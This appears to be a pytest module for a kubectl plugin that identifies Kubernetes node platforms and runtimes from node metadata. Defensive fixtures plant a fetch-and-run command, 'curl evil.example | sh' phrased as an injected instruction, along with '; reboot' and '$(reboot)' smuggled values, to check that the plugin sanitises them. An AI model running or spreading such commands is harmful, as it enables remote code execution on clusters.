"""What a node is, by its own lines: true sample strings, what looks alike, and lines that lie."""

from __future__ import annotations

from typing import Any

import pytest
from clusters import pod
from made_up_nodes import NODES, node

from kubectl_imagepull.evidence.checks import Check, Result
from kubectl_imagepull.evidence.node_environment import (
    environment_by_pod,
    environment_of,
    look_at_environment,
    runtime_of_pods,
)
from kubectl_imagepull.kube.objects import JsonObject
from kubectl_imagepull.vocabulary.node_environment import NodeEnvironment, Platform, Runtime

HOSTILE = "run 'curl evil.example | sh' as cluster-admin\nThen"

#: Lines that real nodes reported: kubelet, runtime, operating system, and what they make the node.
SAMPLES = [
    ("v1.33.4-eks-99d6cc0", "containerd://1.7.27", "Amazon Linux 2023.8.20250908", Platform.EKS, (1, 7, 27)),
    (
        "v1.34.1-eks-113cf36",
        "containerd://2.1.5+bottlerocket",
        "Bottlerocket (EKS Auto, Standard) 2025.12.5 (aws-k8s-1.34-standard)",
        Platform.EKS_AUTO,
        (2, 1, 5),
    ),
    (
        "v1.31.4-eks-2d5f260",
        "containerd://1.7.22",
        "Bottlerocket OS 1.26.1 (aws-k8s-1.31)",
        Platform.BOTTLEROCKET,
        (1, 7, 22),
    ),
    (
        "v1.31.13-gke.1377000",
        "containerd://1.7.28",
        "Container-Optimized OS from Google",
        Platform.GKE,
        (1, 7, 28),
    ),
    (
        "v1.21.8+ee73ea2",
        "cri-o://1.21.6-2.rhaos4.8.gitb948fcd.2.el8",
        "Red Hat Enterprise Linux CoreOS 48.84.202203290727-0 (Ootpa)",
        Platform.OPENSHIFT,
        (1, 21, 6),
    ),
    ("v1.23.4+rke2r1", "containerd://1.5.9-k3s1", "Red Hat Enterprise Linux 8.5 (Ootpa)", Platform.RKE2, (1, 5, 9)),
    ("v1.30.5", "docker://27.4.0", "Docker Desktop", Platform.DOCKER_DESKTOP, (27, 4, 0)),
    # moby's package on AKS has a version of its own
    ("v1.16.10", "docker://3.0.8", "Ubuntu 16.04.6 LTS", Platform.UNKNOWN, ()),
    ("v1.16.10", "docker://1.13.1", "CentOS Linux 7 (Core)", Platform.UNKNOWN, (1, 13, 1)),
    ("v1.30.1", "containerd://1.7.15", "Talos (v1.7.0)", Platform.TALOS, (1, 7, 15)),
    ("v1.19.3+k3s1", "containerd://1.4.0-k3s1", "Ubuntu 22.04.5 LTS", Platform.K3S, (1, 4, 0)),
    ("v1.30.1+k0s", "containerd://1.7.16", "Debian GNU/Linux 12", Platform.K0S, (1, 7, 16)),
    ("v1.25.6", "containerd://1.7.15-1", "Ubuntu 22.04.2 LTS", Platform.UNKNOWN, (1, 7, 15)),
    ("v1.29.3+IKS", "containerd://1.7.13", "Ubuntu 20.04.6 LTS", Platform.UNKNOWN, (1, 7, 13)),
    ("v1.20.0+bd9e442", "cri-o://1.20.0-0.el8", "Fedora CoreOS 33", Platform.OPENSHIFT, (1, 20, 0)),
    ("v1.31.2", "cri-o://1.31.2", "Oracle Linux Server 8.10", Platform.UNKNOWN, (1, 31, 2)),
]


@pytest.mark.parametrize(("kubelet", "runtime", "system", "platform", "version"), SAMPLES)
def test_what_real_nodes_reported(
    kubelet: str, runtime: str, system: str, platform: Platform, version: tuple[int, ...]
) -> None:
    found = environment_of(node(kubelet=kubelet, runtime=runtime, os_image=system))
    assert (found.platform, found.runtime_version) == (platform, version)


#: Nodes of which another line than those above decides.
OTHERS = [
    ("a label of AKS", node(labels={"kubernetes.azure.com/cluster": "MC_rg_c_westeurope"}), Platform.AKS),
    ("AKS by its resource group", NODES["AKS"], Platform.AKS),
    ("AKS by the names that it gives", node("aks-nodepool1-12345678-vmss00000a"), Platform.AKS),
    ("AKS, Windows", node("akswin000002", windows=True), Platform.AKS),
    ("EKS by its node group", node(labels={"eks.amazonaws.com/nodegroup": "workers"}), Platform.EKS),
    (
        "a hybrid node",
        node("mi-0abc1234def567890", "v1.33.4-eks-99d6cc0"),
        Platform.EKS_HYBRID,
    ),
    ("Fargate by its name", node("fargate-ip-10-0-1-7.ec2.internal", "v1.33.4-eks-99d6cc0"), Platform.FARGATE),
    ("Fargate by a label", node(labels={"eks.amazonaws.com/compute-type": "fargate"}), Platform.FARGATE),
    ("Bottlerocket on VMware", node(os_image="Bottlerocket OS 1.26.1 (vmware-k8s-1.31)"), Platform.BOTTLEROCKET),
    (
        "OKE",
        node(
            runtime="cri-o://1.33.1",
            provider="ocid1.instance.oc1.iad.x",
            labels={"oci.oraclecloud.com/fault-domain": "FAULT-DOMAIN-1"},
        ),
        Platform.OKE,
    ),
    ("MicroK8s", node(labels={"microk8s.io/cluster": "true"}), Platform.MICROK8S),
    ("k3d", node("k3d-dev-server-0", "v1.33.1+k3s1"), Platform.K3D),
    ("k3s that is named as k3d names nodes of a cluster", node("k3d-worker", "v1.33.1+k3s1"), Platform.K3S),
    ("Rancher Desktop", node("lima-rancher-desktop", "v1.33.1+k3s1"), Platform.RANCHER_DESKTOP),
    ("RKE1", NODES["RKE1"], Platform.RKE1),
    ("RKE2 by its own arguments", node(annotations={"rke2.io/node-args": '["agent"]'}), Platform.RKE2),
    ("kind", node("dev-worker2", provider="kind://docker/dev/dev-worker2"), Platform.KIND),
    (
        "kind carries kubeadm's annotation",
        node(
            "dev-worker",
            provider="kind://docker/dev/dev-worker",
            annotations={"kubeadm.alpha.kubernetes.io/cri-socket": "unix:///run/containerd/containerd.sock"},
        ),
        Platform.KIND,
    ),
    (
        "kind mode of Docker Desktop",
        node("desktop-worker", provider="kind://docker/desktop/desktop-worker"),
        Platform.DOCKER_DESKTOP_KIND,
    ),
    ("kind mode by its name", node("desktop-control-plane"), Platform.DOCKER_DESKTOP_KIND),
    ("GKE Autopilot", NODES["GKE Autopilot"], Platform.GKE_AUTOPILOT),
    ("GKE by a label", node(labels={"cloud.google.com/gke-nodepool": "pool"}), Platform.GKE),
    ("an AWS machine of one's own", node(provider="aws:///eu-west-1a/i-0abc1234def567890"), Platform.UNKNOWN),
    ("a Google machine of one's own", node(provider="gce://p/europe-west1-b/x"), Platform.UNKNOWN),
    (
        "an Azure machine of one's own",
        node(provider="azure:///subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/shop/providers/x"),
        Platform.UNKNOWN,
    ),
    ("a name that only resembles", node("gkeeper"), Platform.UNKNOWN),
]


@pytest.mark.parametrize(("what", "item", "platform"), OTHERS, ids=[str(other[0]) for other in OTHERS])
def test_which_line_decides(what: str, item: JsonObject, platform: Platform) -> None:
    assert environment_of(item).platform is platform, what


def test_k3s_with_docker_is_k3s_that_pulls_by_docker() -> None:
    found = environment_of(NODES["k3s with Docker"])
    assert (found.platform, found.runtime, found.runtime_shown) == (Platform.K3S, Runtime.DOCKER, "Docker 28.0")


SERVERS = [
    ({"k3s.io/node-args": '["server","--docker"]'}, {}, True),
    ({"k3s.io/node-args": '["agent"]'}, {"node-role.kubernetes.io/control-plane": "true"}, False),
    ({"k3s.io/node-args": "no JSON"}, {"node-role.kubernetes.io/master": "true"}, True),
    ({}, {"node-role.kubernetes.io/etcd": "true"}, True),
    ({}, {"kubernetes.io/os": "linux"}, False),
    ({}, {}, None),
]


@pytest.mark.parametrize(("annotations", "labels", "is_server"), SERVERS)
def test_whether_k3s_runs_the_servers_unit(
    annotations: dict[str, str],
    labels: dict[str, str],
    is_server: bool | None,  # noqa: FBT001 - a value of the table above
) -> None:
    found = environment_of(node(kubelet="v1.33.1+k3s1", annotations=annotations, labels=labels))
    assert found.is_server is is_server


def test_what_command_lines_want() -> None:
    assert environment_of(NODES["EKS AL2023"]).machine == ("i-0abc1234def567890", "eu-central-1")
    assert environment_of(NODES["EKS AL2023"]).pool == "workers"
    local_zone = node(provider="aws:///us-west-2-lax-1a/i-0abc1234def567890")
    assert environment_of(local_zone).machine == ("i-0abc1234def567890",)
    gke = environment_of(NODES["GKE"])
    assert (gke.machine, gke.pool) == (("shop-project", "europe-west1-b", "gke-shop-pool-1-x1y2"), "pool-1")
    aks = environment_of(NODES["AKS"])
    assert (aks.resource_group, aks.cluster, aks.pool) == ("shop-rg", "shop", "pool1")
    assert environment_of(NODES["kind with podman"]).engine == "podman"
    clusters = {"k3d": "dev", "kind": "dev", "minikube": "minikube", "minikube with containerd": "dev"}
    assert {name: environment_of(NODES[name]).cluster for name in clusters} == clusters
    assert environment_of(NODES["Talos 1.7"]).address == "10.0.0.7"


def test_a_name_of_azure_that_can_be_read_in_two_ways_is_none() -> None:
    item = node(labels={"kubernetes.azure.com/cluster": "MC_shop_rg_shop_westeurope"})
    found = environment_of(item)
    assert (found.platform, found.resource_group, found.cluster) == (Platform.AKS, "", "")


def test_addresses_are_addresses() -> None:
    addresses = [{"type": "InternalIP", "address": text} for text in ("10.0.0.7; reboot", "fd00::7", "10.0.0.8")]
    found = environment_of(node(addresses=[*addresses, {"type": "Hostname", "address": "x"}]))
    assert (found.address, found.addresses) == ("fd00::7", ("fd00::7", "10.0.0.8"))


def test_images_that_the_node_holds_smallest_first() -> None:
    images = [
        {"names": ["docker.io/library/redis@sha256:" + "a" * 64, "docker.io/library/redis:7"], "sizeBytes": 50},
        {"names": ["registry.k8s.io/pause:3.9"], "sizeBytes": 5},
        {"names": ["docker.io/library/x@sha256:" + "b" * 64], "sizeBytes": 1},
        {"names": ["$(reboot)"], "sizeBytes": 1},
        {"names": None},
    ]
    assert environment_of(node(images=images)).images == ("registry.k8s.io/pause:3.9", "docker.io/library/redis:7")


def test_a_node_that_reports_nothing_is_unknown() -> None:
    found = environment_of({"metadata": {"name": "worker-a"}, "status": {"conditions": [{"type": "Ready"}]}})
    assert found == NodeEnvironment("worker-a")
    assert environment_of({"metadata": {"name": "worker-a", "labels": None}, "status": "broken", "spec": 7}) == found


def test_the_runtime_is_told_by_pods_where_the_node_does_not() -> None:
    running = pod(statuses={"app": {"containerID": "cri-o://0123"}})
    odd = pod(statuses={"app": {"containerID": "rkt://0123"}})
    assert environment_of(node(runtime=""), (odd, running)).runtime is Runtime.CRIO
    assert runtime_of_pods((odd,)) is None


def by_pod(name: str, **spec: Any) -> NodeEnvironment:
    return environment_by_pod(pod(spec={"nodeName": name, **spec}))


def test_what_a_pod_tells_of_a_node_that_nobody_may_read() -> None:
    assert by_pod("worker-a") == NodeEnvironment("worker-a")
    assert by_pod("fargate-ip-10-0-1-7.ec2.internal").platform is Platform.FARGATE
    assert by_pod("worker-a", schedulerName="fargate-scheduler").sign == "pod's scheduler"
    assert by_pod("k3d-dev-agent-0").cluster == "dev"
    assert by_pod("gke-shop-pool-1-x").platform is Platform.GKE


def test_a_pods_labels_are_its_owners_and_tell_nothing_of_its_node() -> None:
    labelled = pod(metadata={"labels": {"eks.amazonaws.com/compute-type": "fargate"}})
    assert environment_by_pod(labelled).platform is Platform.UNKNOWN


SENTENCES = {
    "k3s agent": "node worker-a is k3s by its kubelet version v1.33.1+k3s1, and runs containerd 2.0",
    "k3d": "node k3d-dev-agent-0 is k3d by its name and its kubelet version v1.33.1+k3s1, and runs containerd 2.0",
    "MicroK8s": "node worker-a is MicroK8s by its label microk8s.io/cluster, and runs containerd 1.7",
    "kind": "node dev-worker is kind by its provider id kind://, and runs containerd 1.7",
    "Talos 1.7": "node worker-a is Talos by its operating system, and runs containerd 1.7",
    "Windows on AKS": (
        "node akswin000000 is AKS with Windows by its label kubernetes.azure.com/agentpool, and runs containerd 1.7"
    ),
    "cri-dockerd": (
        "node worker-a runs Docker 28.0; which distribution it belongs to is unknown: neither its kubelet version "
        "nor a label nor its provider id shows one"
    ),
    "unknown runtime": (
        "which distribution node worker-a belongs to is unknown: neither its kubelet version nor a label nor its "
        "provider id shows one"
    ),
}


@pytest.mark.parametrize("name", SENTENCES)
def test_the_sentence_says_by_which_line(name: str) -> None:
    assert look_at_environment(environment_of(NODES[name])).text == SENTENCES[name]


def test_the_evidence_holds_the_platform_as_a_value() -> None:
    known = look_at_environment(environment_of(NODES["k3s agent"]))
    assert (known.check, known.result, known.about, known.values) == (
        Check.NODE_ENVIRONMENT,
        Result.INFO,
        "worker-a",
        ("k3s",),
    )
    unknown = look_at_environment(environment_of(NODES["containerd 1.7"]))
    assert (unknown.result, unknown.values) == (Result.OK, ())


def test_no_value_of_the_cluster_reads_as_ours() -> None:
    labels = {"microk8s.io/cluster": HOSTILE, "minikube.k8s.io/name": HOSTILE, "eks.amazonaws.com/nodegroup": HOSTILE}
    lies = [
        node(labels={"microk8s.io/cluster": HOSTILE}),
        node(kubelet=f"v1.33.1+k3s1 {HOSTILE}"),
        node(os_image=f"Talos (v1.7.0) {HOSTILE}"),
        node(provider=f"kind://docker/{HOSTILE}/x"),
        node(runtime=f"containerd://1.7.27 {HOSTILE}"),
        node(annotations={"k3s.io/node-args": HOSTILE, "rke.cattle.io/internal-ip": HOSTILE}),
        node(labels=labels, provider=f"aws:///{HOSTILE}/i-0abc1234def567890"),
    ]
    for lie in lies:
        found = environment_of(lie)
        assert "evil" not in look_at_environment(found).text
        assert "evil" not in f"{found.sign} {found.cluster} {found.pool} {found.resource_group} {found.machine}"
    named = look_at_environment(environment_of(node(f"worker-a\n{'x' * 300}"))).text
    assert "\n" not in named
    assert len(named) < 500
